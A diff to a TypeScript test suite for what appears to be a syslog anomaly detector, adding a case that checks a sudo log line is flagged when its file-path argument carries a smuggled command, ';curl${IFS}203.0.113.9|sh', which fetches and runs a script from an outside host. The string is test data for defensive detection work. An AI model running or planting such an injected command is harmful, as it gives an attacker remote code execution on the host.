@@ -218,6 +218,18 @@ describe("training and scoring", () => {
     expect(packedTarkin({ model: logfmt.model() }).score("user=dave command=/bin/bash").surprise).toBe(0);
   });
 
+  it("a field after a number too seldom seen to judge says what it held: a value shaped as most of its values were is not rare by the back-off", () => {
+    // The field after any number holds words; alice's 20 runs of tail put a path after 200.
+    const tail = (path: string) => `Mar 12 10:00:00 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tail -n 200 ${path}`;
+    const trainer = packedTarkin();
+    for (let i = 0; i < 600; i++) trainer.train(`Mar 12 10:00:00 bastion app[1]: served ${i} requests in ${i % 7} ms`);
+    for (let i = 0; i < 20; i++) trainer.train(tail("/var/log/auth.log"));
+    const t = packedTarkin({ model: trainer.model() });
+    expect(t.score(tail("/var/log/auth.log")).surprise).toBe(0);
+    // A shape it never held is judged by the back-off still.
+    expect(t.score(tail("/var/log/auth.log;curl${IFS}203.0.113.9|sh")).anomaly).toBe(true);
+  });
+
   it("a very unusual line opens an alarm on its syslog process: its next 8 lines are anomalous; a daemon's lines and a mistyped password open none", () => {
     // A bastion: a new sshd process every session; systemd-logind one process throughout.
     const at = (second: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(second / 60) % 60).padStart(2, "0")}:${String(second % 60).padStart(2, "0")} bastion ${process}: ${text}`;
